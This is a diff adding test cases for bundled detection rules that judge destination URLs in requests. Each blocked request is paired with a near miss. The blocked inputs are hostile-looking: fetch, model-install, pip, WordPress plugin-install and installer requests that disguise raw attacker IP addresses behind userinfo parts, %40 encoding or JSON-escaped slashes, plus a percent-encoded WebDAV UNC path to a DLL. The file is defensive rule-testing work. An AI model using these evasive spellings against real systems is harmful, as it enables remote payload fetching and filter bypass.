@@ -35,3 +35,25 @@ describe('bundled rules judging the destination a feature is handed (rev 2026-12
   testRuleCases(CASES, hits);
   testPrefilterEntries(CASES.map(([sid]) => sid), rules);
 });
+
+/**
+ * Rev 2026-12-11i (issue 18, session 29): the same destinations spelled as the first four rules did not read them — a
+ * userinfo part before the address (`http://cdn.example.com@45.61.x.x/`, the `@` as `%40` in a form), slashes
+ * JSON-escaped as PHP's json_encode writes them (`http:\/\/45.61.x.x\/`), and a UNC path's WebDAV `@SSL@443`
+ * percent-encoded. The near misses: the same spelling naming a DNS host, a private address behind the userinfo, an
+ * npm-style `name@version` and an email address in the same value.
+ */
+const SPELLINGS: RuleCase[] = [
+  [9000573, 'block', 'a query URL that dresses an address as a CDN name with a userinfo part', get('/api/v1/fetch?url=http%3A%2F%2Fcdn.example.com%4045.61.188.4%2Fx.txt'), get('/api/v1/fetch?url=http%3A%2F%2Fdeploy%40cdn.example.com%2Fx.txt')],
+  [9000573, 'block', 'a model source with user and password before an address', get('/api/v2/models/install?source=http://hf:token@170.88.175.146:8000/m.pth'), get('/api/v2/models/install?source=http://hf:token@192.168.1.20:8000/m.pth')],
+  [9000574, 'block', 'a JSON api_base that names a known host as userinfo', postJson('/chat/completions', '{"model":"x","api_base":"http://api.openai.com@187.84.62.45:4444/v1"}'), postJson('/chat/completions', '{"model":"x","api_base":"https://user@api.example.com/v1","contact":"ops@203.0.113.5.example.com"}')],
+  [9000574, 'block', 'a pip requirement behind a userinfo part', postJson('/customnode/install', '{"pip":["https://pypi.org@35.31.66.218/x.tar.gz"]}'), postJson('/customnode/install', '{"pip":["lodash@4.17.21","requests==2.31.0"],"note":"see https://pypi.org/project/requests/"}')],
+  [9000575, 'block', 'a percent-encoded form value whose userinfo ends in %40 before an address', postForm('/wp-admin/admin-ajax.php', 'action=alone_import_pack_install_plugin&data[plugin_source]=http%3A%2F%2Fdownloads.wordpress.org%4032.220.147.186%2Fo.zip'), postForm('/wp-admin/admin-ajax.php', 'action=alone_import_pack_install_plugin&data[plugin_source]=https%3A%2F%2Fdeploy%40downloads.wordpress.org%2Fplugin%2Fupdater.zip&email=jo%40example.com')],
+  [9000576, 'block', 'a JSON URL with escaped slashes on an address', postJson('/index.php?route=extension/installer', '{"url":"http:\\/\\/45.61.188.4\\/x.zip"}'), postJson('/index.php?route=extension/installer', '{"url":"https:\\/\\/www.example.org\\/ext\\/x.zip","mirror":"http:\\/\\/10.0.0.7\\/x.zip"}')],
+  [9000571, 'block', 'a percent-encoded WebDAV share with %40SSL%40443', postForm('/api/import', 'path=%5C%5Cfiles.example.net%40SSL%40443%5CDavWWWRoot%5Cx.dll'), postForm('/api/import', 'path=%5C%5Cfileserver%40SSL%40443%5CDavWWWRoot%5Cx.dll')],
+];
+
+describe('bundled destination rules read the userinfo, JSON-escaped and %40 spellings (rev 2026-12-11i)', () => {
+  testRuleCases(SPELLINGS, hits);
+  testPrefilterEntries(SPELLINGS.map(([sid]) => sid), rules);
+});
